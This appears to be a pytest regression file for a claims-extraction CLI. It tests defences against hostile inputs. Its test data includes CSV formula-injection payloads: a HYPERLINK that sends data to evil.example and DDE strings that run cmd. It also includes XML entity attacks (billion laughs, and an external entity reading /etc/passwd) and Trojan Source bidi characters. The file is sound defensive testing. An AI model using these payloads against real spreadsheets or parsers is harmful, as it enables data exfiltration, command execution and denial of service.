"""Hostile input, round 5: spreadsheet formulas in CSV, standard input for every claims command,
an output that is also an input, and what a page's markup costs.

Each case failed before its fix (the test's docstring says how) and passes after.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from claimkit.cli import main
from tests._hostile import A_TEXT, Z_TEXT, gold_dir, two_article_lines
from tests._hostile import no_endpoint as no_endpoint  # the autouse fixture

#: cell values a spreadsheet runs as formulas (a link that sends data away, a command)
FORMULAS = {
    "summary": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "title": "+1+1",
    "text": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
}


@pytest.fixture(scope="module")
def good_claims(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The two articles' records (a, then z)."""
    d = tmp_path_factory.mktemp("r5")
    lines = two_article_lines(d)
    path = d / "claims.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def formula_claims(good_claims: Path) -> Path:
    """The records with formulas in the summary, an actor's name and text, and the title."""
    records = [json.loads(ln) for ln in good_claims.read_text(encoding="utf-8").splitlines()]
    for rec in records:
        rec["document"]["title"] = FORMULAS["title"]
        for claim in rec["claims"]:
            claim["summary"] = FORMULAS["summary"]
            claim["actor"][0]["name"] = FORMULAS["name"]
            claim["actor"][0]["text"] = FORMULAS["tab"]
    path = good_claims.with_name("formulas.jsonl")
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records), encoding="utf-8")
    return path


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _no_formula(rows: list[dict[str, str]]) -> None:
    assert rows
    for row in rows:
        for key, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (key, cell)
            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit(), (key, cell)


def test_spreadsheet_cell() -> None:
    from claimkit.io import spreadsheet_cell

    for value in FORMULAS.values():
        assert spreadsheet_cell(value) == "'" + value
    for kept in (-3, -2.5, "-3", "+4", "-2.5e3", ".5", "Kyiv", "", None, "a=b", "'quoted"):
        assert spreadsheet_cell(kept) == kept


def test_csv_export_and_query_neutralise_formulas(tmp_path: Path, formula_claims: Path) -> None:
    """Before: ``export --format csv`` and ``query --format csv`` wrote ``=HYPERLINK(...)``,
    ``@SUM(...)``, ``+1+1`` and a tab before ``=1+1`` as they are: a spreadsheet opening the
    file runs them. Now each such cell starts with ``'``; JSONL export is unchanged."""
    pytest.importorskip("sqlalchemy")
    db = str(tmp_path / "store.db")
    assert CliRunner().invoke(main, ["import", "--db", db, str(formula_claims)]).exit_code == 0
    exported = CliRunner().invoke(main, ["export", "--db", db, "--format", "csv"])
    assert exported.exit_code == 0, exported.stderr
    rows = _cells(exported.stdout)
    _no_formula(rows)
    assert {r["summary"] for r in rows} == {"'" + FORMULAS["summary"]}
    assert {r["title"] for r in rows} == {"'" + FORMULAS["title"]}
    queried = CliRunner().invoke(main, ["query", "--db", db, "--format", "csv"])
    assert queried.exit_code == 0, queried.stderr
    rows = _cells(queried.stdout)
    _no_formula(rows)
    assert any(("'" + FORMULAS["name"]) in r["actors"] or r["actors"].startswith("'") for r in rows), rows
    lossless = CliRunner().invoke(main, ["export", "--db", db])
    assert [json.loads(ln) for ln in lossless.stdout.splitlines()] == [
        json.loads(ln) for ln in formula_claims.read_text(encoding="utf-8").splitlines()]
    groups = CliRunner().invoke(main, ["query", "--db", db, "--groups", "--format", "csv"])
    assert groups.exit_code == 0, groups.stderr
    for row in _cells(groups.stdout):  # numbers stay numbers
        assert row["sources"].isdigit() and row["n_claims"].isdigit(), row


# ------------------------------------------------------------------ an output that is an input


@pytest.mark.parametrize("how", ["same-name", "another-spelling", "a-link"])
def test_extract_refuses_an_output_that_is_an_input(tmp_path: Path, how: str) -> None:
    """Before: ``extract b.txt -o b.txt`` emptied b.txt (the article was lost), then said
    'is this run's output file; not read as input'."""
    article = tmp_path / "b.txt"
    article.write_text(A_TEXT, encoding="utf-8")
    out = {"same-name": str(article), "another-spelling": str(tmp_path / "." / "b.txt"),
           "a-link": str(tmp_path / "link.jsonl")}[how]
    if how == "a-link":
        Path(out).symlink_to(article)
    result = CliRunner().invoke(main, ["extract", str(article), "--backend", "rules", "-q", "-o", out])
    assert result.exit_code == 2, (result.stderr, result.exception)
    (line,) = result.stderr.splitlines()
    assert line.startswith(f"claimkit: error: {out}: is also an input"), line
    assert line.endswith("writing the output there would overwrite it: choose another -o path"), line
    assert article.read_text(encoding="utf-8") == A_TEXT
    assert not Path(out + ".lock").exists()


def test_view_refuses_to_write_over_a_claims_file_it_reads(tmp_path: Path, good_claims: Path) -> None:
    """Before: ``view claims.jsonl -o claims.jsonl`` replaced the claims by the report."""
    claims = tmp_path / "claims.jsonl"
    claims.write_bytes(good_claims.read_bytes())
    result = CliRunner().invoke(main, ["view", str(claims), "-o", str(claims)])
    assert result.exit_code == 2, (result.stderr, result.exception)
    assert result.stderr == (f"claimkit: error: {claims}: is also a claims file; writing the output "
                             "there would overwrite it: choose another -o path\n")
    assert claims.read_bytes() == good_claims.read_bytes()


@pytest.mark.parametrize("command", [["export"], ["export", "--format", "csv"], ["export", "--format", "parquet"],
                                     ["view"]])
def test_an_export_or_report_over_the_store_file_is_refused(tmp_path: Path, good_claims: Path,
                                                            command: list[str]) -> None:
    """Before: ``export --db s.db -o s.db`` emptied the SQLite file, then ended in a traceback
    (sqlite3.DatabaseError: database disk image is malformed): the store was lost."""
    pytest.importorskip("sqlalchemy")
    db = tmp_path / "s.db"
    assert CliRunner().invoke(main, ["import", "--db", str(db), str(good_claims)]).exit_code == 0
    before = db.read_bytes()
    result = CliRunner().invoke(main, [*command, "--db", str(db), "-o", str(db)])
    assert result.exit_code == 2, (result.stderr, result.exception)
    assert result.stderr == (f"claimkit: error: {db}: is also the claim store; writing the output "
                             "there would overwrite it: choose another -o path\n")
    assert db.read_bytes() == before


@pytest.mark.parametrize("command", [["query"], ["export"], ["validate"], ["view", "-o", "REPORT"]])
def test_a_reading_command_on_a_missing_store_makes_nothing(tmp_path: Path, command: list[str]) -> None:
    """Before: ``query --db sqlite:////no/such/dir/x.db`` made the folders and an empty store
    and answered with nothing, as if the store were empty; a mistyped path now says so."""
    pytest.importorskip("sqlalchemy")
    db = tmp_path / "no" / "such" / "x.db"
    args = [str(tmp_path / "r.html") if a == "REPORT" else a for a in command]
    result = CliRunner().invoke(main, [*args, "--db", f"sqlite:///{db}"])
    assert result.exit_code == 2, (result.stderr, result.exception)
    assert result.stderr == (f"claimkit: error: {db}: no claim store here (make one with claimkit "
                             "import or extract --db)\n")
    assert not (tmp_path / "no").exists()


def test_validate_new_file_may_start_a_store(tmp_path: Path, good_claims: Path) -> None:
    """``validate --db URL --new FILE`` imports FILE first: a store that is not there yet is made."""
    pytest.importorskip("sqlalchemy")
    db = tmp_path / "new.db"
    result = CliRunner().invoke(main, ["validate", "--db", str(db), "--new", str(good_claims),
                                       "--fail-on", "never"])
    assert result.exit_code == 0, (result.stderr, result.exception)
    assert db.is_file()


def test_cluster_shards_inside_an_input_folder_are_not_read_back(tmp_path: Path) -> None:
    """``extract in --cluster ... -o in/shards``. Before: the rerun walked in/shards, took its
    shard as an input, and was refused ('holds 1 shard(s) of other inputs'): no resume."""
    from claimkit.distributed.shards import plan_partitions

    folder = tmp_path / "in"
    (folder / "shards").mkdir(parents=True)
    (folder / "a.txt").write_text(A_TEXT, encoding="utf-8")
    first = plan_partitions([str(folder)], skip=folder / "shards")
    (folder / "shards" / first[0].name).write_text("{}\n", encoding="utf-8")
    again = plan_partitions([str(folder)], skip=folder / "shards")
    assert [p.files for p in again] == [(str(folder / "a.txt"),)]
    assert [p.name for p in again] == [p.name for p in first]
    assert len(plan_partitions([str(folder)])[0].files) == 2  # without skip: read back


# ------------------------------------------------------------------ standard input


def _stdin_args(command: str, d: Path, *names: str) -> list[str]:
    return {"validate": ["validate", "--fail-on", "never", "--format", "jsonl", *names],
            "view": ["view", *names, "-o", str(d / "r.html")],
            "eval": ["eval", "--gold", gold_dir(d), names[0], "--json"],
            "import": ["import", "--db", str(d / "s.db"), *names]}[command]


@pytest.mark.parametrize("command", ["validate", "view", "eval", "import"])
def test_claims_commands_read_standard_input(tmp_path: Path, good_claims: Path, command: str) -> None:
    """``claimkit extract ... | claimkit validate -`` as ``extract -`` reads articles. Before:
    'Invalid value for '[FILES]...': File '-' does not exist.', exit 2, for all four."""
    if command == "import":
        pytest.importorskip("sqlalchemy")
    (tmp_path / "p").mkdir()
    (tmp_path / "n").mkdir()
    piped = CliRunner().invoke(main, _stdin_args(command, tmp_path / "p", "-"), input=good_claims.read_bytes())
    assert piped.exit_code == 0, (piped.stderr, piped.exception)
    named = CliRunner().invoke(main, _stdin_args(command, tmp_path / "n", str(good_claims)))
    assert named.exit_code == 0, named.stderr
    # the same findings, scores, report and store as the file named
    assert piped.stdout == named.stdout
    assert piped.stderr == named.stderr.replace(str(tmp_path / "n"), str(tmp_path / "p"))


def test_standard_input_named_twice_is_one_line(good_claims: Path) -> None:
    result = CliRunner().invoke(main, ["validate", "-", "-"], input=good_claims.read_bytes())
    assert result.exit_code == 2, (result.stderr, result.exception)
    assert result.stderr == "claimkit: error: -: standard input is named more than once; it can be read once\n"


# ------------------------------------------------------------------ HTML of many paragraphs


def _paragraphs_page(n: int, para: str = "Le président a déclaré <b>jeudi</b>.") -> bytes:
    return ('<html lang="fr"><head><title>Many paragraphs</title><meta property="article:published_time" '
            'content="2025-03-27"></head><body><nav><a href="/">Home menu</a></nav><script>var leak=1;</script>'
            "<article>" + f"<p>{para}</p>\n" * n + "<ul><li>item <p>inner</p></li></ul></article>"
            "<footer>Copyright notice</footer></body></html>").encode()


def test_a_page_of_many_paragraphs_costs_time_linear_in_them() -> None:
    """Loading 20,000 and 80,000 ``<p>``: CPU time grows about 4x when linear. Before, the
    XPath ``//p//text()`` of trafilatura's main extraction (libxml2's quadratic node-set
    merge) grew 16x over such a step; the bound, 8x, is far from both. (10,000 ``<p>`` now
    load in about 0.1 s, so a 10,000 to 80,000 step measured a tenth of a second against
    the noise of a loaded machine: one fresh-clone run saw 12.3x where the code gives 8-9x.)"""
    import gc
    import time

    from claimkit.documents import load_bytes

    load_bytes(_paragraphs_page(100), "warm.html")  # imports
    spent = []
    for n, repeats in ((20_000, 3), (80_000, 3)):  # the least of a few runs: other processes' noise out
        page = _paragraphs_page(n)
        best = float("inf")
        for _ in range(repeats):
            gc.collect()
            start = time.process_time()
            docs = load_bytes(page, "many.html")
            best = min(best, time.process_time() - start)
        spent.append(best)
        assert sum(d.text.count("Le président a déclaré jeudi.") for d in docs) == n
    assert spent[1] < 8 * spent[0], spent


def test_a_page_of_many_paragraphs_keeps_its_text_title_and_date() -> None:
    """Past MANY_PARAGRAPHS the page is read linearly: every paragraph one line, no script,
    navigation or footer, the title and date of its head, its declared language."""
    from claimkit.documents import load_bytes
    from claimkit.documents._html import MANY_PARAGRAPHS

    (doc,) = load_bytes(_paragraphs_page(MANY_PARAGRAPHS + 1, "Oui."), "many.html")
    assert doc.text.split("\n") == ["Oui."] * (MANY_PARAGRAPHS + 1) + ["item inner"]
    assert (doc.title, str(doc.published), doc.language) == ("Many paragraphs", "2025-03-27", "fr")


def test_rules_articles_details_name_only_the_articles_asked_for(capsys: pytest.CaptureFixture[str]) -> None:
    """``bench/rules_articles.py -v en-1``. Before: the MISSED lines listed the gold claims of
    every English article (the filter was the records' languages, not the names given)."""
    import importlib.util

    path = Path(__file__).resolve().parent.parent / "bench" / "rules_articles.py"
    spec = importlib.util.spec_from_file_location("rules_articles_bench", path)
    assert spec is not None and spec.loader is not None
    bench = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(bench)
    bench.main(["-v", "en-1"])
    lines = capsys.readouterr().out.splitlines()
    # MISSED/MATCH name the gold line (en-1.jsonl:3), FALSE the document (en-1)
    named = {ln.split()[1].split(".")[0] for ln in lines if ln.startswith(("MISSED", "FALSE", "MATCH"))}
    assert named == {"en-1"}, sorted(named)


# ------------------------------------------------------------------ a DOCTYPE with an internal subset

_LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 9))


@pytest.mark.parametrize("doctype", [
    '<!DOCTYPE html [<!ENTITY a "SECRET-DTD-TEXT">]>',
    '<!DOCTYPE html [<!ENTITY l0 "SECRET">' + _LAUGHS + "]>",  # a billion laughs, 10^8 copies
    '<!doctype html [<!ENTITY a SYSTEM "file:///etc/passwd"> <!ELEMENT p ANY>]>',
    '<!DOCTYPE html [<!ENTITY % p "SECRET"> %p; ]>',
], ids=["entity", "billion-laughs", "external-entity", "parameter-entity"])
def test_a_doctype_internal_subset_is_no_text_and_loses_no_metadata(doctype: str) -> None:
    """Entities are never expanded and the subset's text is not article text (both so
    before); before, the title and date were lost: the parser closed the declaration at the
    first ``>`` inside the subset and read the head as body."""
    from claimkit.documents import load_bytes

    page = (doctype + "\n<html><head><title>Macron pledges air defence</title>"
            "<meta property='article:published_time' content='2025-03-27'></head><body><article>"
            f"<p>{A_TEXT.split(chr(10))[2]} &a; &l8;</p><p>{Z_TEXT.split(chr(10))[2]}</p></article></body></html>")
    (doc,) = load_bytes(page.encode(), "dtd.html")
    assert (doc.title, str(doc.published)) == ("Macron pledges air defence", "2025-03-27")
    assert "SECRET" not in doc.text and "ENTITY" not in doc.text and "root:" not in doc.text
    assert doc.text.startswith("PARIS, 27 March 2025.") and len(doc.text) < 1000, doc.text


@pytest.mark.parametrize("check", [False, True], ids=["write", "check"])
@pytest.mark.parametrize("inside", [False, True], ids=["a-file", "inside-a-file"])
def test_schema_into_a_file_says_so(tmp_path: Path, check: bool, inside: bool) -> None:
    """Before: ``claimkit: error: afile: File exists`` (exit 1) or ``Not a directory``, and
    ``--check`` called every schema out of date."""
    (tmp_path / "afile").write_text("notes\n", encoding="utf-8")
    out = str(tmp_path / "afile" / "x") if inside else str(tmp_path / "afile")
    result = CliRunner().invoke(main, ["schema", "-o", out, *(["--check"] if check else [])])
    assert result.exit_code == 2, (result.stderr, result.exception)
    why = f" ({tmp_path / 'afile'} is a file)" if inside else ""
    assert result.stderr == (f"claimkit: error: {out}: not a folder{why}; -o names the folder the JSON Schema "
                             "files are written into\n")
    assert (tmp_path / "afile").read_text(encoding="utf-8") == "notes\n"


# ------------------------------------------------------------------ bidirectional overrides

#: U+202E turns what follows around on a terminal, U+2066/U+2069 isolate: "Trojan Source"
BIDI = "\u202eecnarF\u2066x\u2069"


def test_bidi_overrides_in_records_reach_no_terminal_raw(tmp_path: Path, good_claims: Path) -> None:
    """Before: a document id and an actor name holding U+202E and U+2066 reached the
    validate table, the query table and the one-line messages as they were, and turned the
    rest of the line around. Now they are shown as ``\\u202e``; a right-to-left mark
    (U+200F, part of Arabic and Hebrew text) is kept."""
    records = [json.loads(ln) for ln in good_claims.read_text(encoding="utf-8").splitlines()]
    evil = records[1]
    evil["document"]["id"] = "z" + BIDI
    for claim in evil["claims"]:
        claim["doc_id"] = evil["document"]["id"]
        claim["actor"][0]["name"] = claim["actor"][0]["text"] = BIDI
    path = tmp_path / "claims.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in records) + "{oops\u202e\n", encoding="utf-8")
    shown = []
    validated = CliRunner().invoke(main, ["validate", str(path), "--fail-on", "never"], env={"COLUMNS": "250"})
    assert validated.exit_code == 1, validated.stderr  # the bad last line
    shown.append(validated.stdout + validated.stderr)
    pytest.importorskip("sqlalchemy")
    db = str(tmp_path / "s.db")
    CliRunner().invoke(main, ["import", "--db", db, str(path)])
    queried = CliRunner().invoke(main, ["query", "--db", db], env={"COLUMNS": "250"})
    assert queried.exit_code == 0, queried.stderr
    shown.append(queried.stdout + queried.stderr)
    for text in shown:
        assert not any(ch in text for ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"), text
        assert "\\u202e" in text
    from claimkit.io import one_line

    assert one_line("\u200fمرحبا \u202eabc") == "\u200fمرحبا \\u202eabc"


@pytest.mark.parametrize("command", [["view", "{claims}"], ["export", "--db", "{db}", "--format", "parquet"],
                                     ["export", "--db", "{db}", "--format", "csv"]])
def test_an_output_inside_a_file_or_a_directory_is_one_line(tmp_path: Path, good_claims: Path,
                                                            command: list[str]) -> None:
    """Before: ``view -o a.txt/r.html`` said 'a.txt: File exists'; ``export --format parquet
    -o DIR`` 'Failed to open local file ... [errno 21] Is a directory' (pyarrow's words)."""
    pytest.importorskip("sqlalchemy")
    if "parquet" in command:
        pytest.importorskip("pyarrow")
    db = tmp_path / "s.db"
    assert CliRunner().invoke(main, ["import", "--db", str(db), str(good_claims)]).exit_code == 0
    (tmp_path / "a.txt").write_text("notes\n", encoding="utf-8")
    (tmp_path / "adir").mkdir()
    args = [a.format(claims=good_claims, db=db) for a in command]
    inside = CliRunner().invoke(main, [*args, "-o", str(tmp_path / "a.txt" / "out")])
    assert inside.exit_code == 2, (inside.stderr, inside.exception)
    assert inside.stderr == (f"claimkit: error: {tmp_path / 'a.txt' / 'out'}: {tmp_path / 'a.txt'} is a file, "
                             "not a folder; choose another -o path\n")
    folder = CliRunner().invoke(main, [*args, "-o", str(tmp_path / "adir")])
    assert folder.exit_code == 2, (folder.stderr, folder.exception)
    assert folder.stderr == f"claimkit: error: {tmp_path / 'adir'}: is a directory; -o names the output file\n"


# ------------------------------------------------------------------ HTML of many elements


def _table_page(rows: int) -> bytes:
    return ('<html lang="fr"><head><title>Many cells</title></head><body><article>'
            "<p>Le président a déclaré jeudi.</p><table>" + "<tr><td>x</td></tr>" * rows
            + "</table></article></body></html>").encode()


@pytest.mark.parametrize("rows,linear", [(30_000, True), (2_000, False)])
def test_a_page_of_many_elements_of_any_kind_is_read_linearly(
    monkeypatch: pytest.MonkeyPatch, rows: int, linear: bool
) -> None:
    """Past MANY_ELEMENTS elements (here 30,000 table rows of one cell, 60,000 elements and
    no ``<p>`` past the first) trafilatura is not asked: it held some 160 times the page in
    memory (500,000 such rows, 9.5 MB: 70 s and 1.6 GB). Before, only ``<p>`` were counted
    and such a page went to trafilatura. A page of fewer elements still goes to it (guard)."""
    import trafilatura

    from claimkit.documents import _html, load_bytes

    assert 2 * 2_000 < _html.MANY_ELEMENTS < 2 * 30_000
    calls: list[str] = []
    extract = trafilatura.bare_extraction
    monkeypatch.setattr(trafilatura, "bare_extraction",
                        lambda *a, **k: calls.append("trafilatura") or extract(*a, **k))
    (doc,) = load_bytes(_table_page(rows), "cells.html")
    assert (calls == []) is linear
    assert "Le président a déclaré jeudi." in doc.text
    if linear:  # every cell, one line each
        assert doc.text.split("\n").count("x") == rows and doc.title == "Many cells"
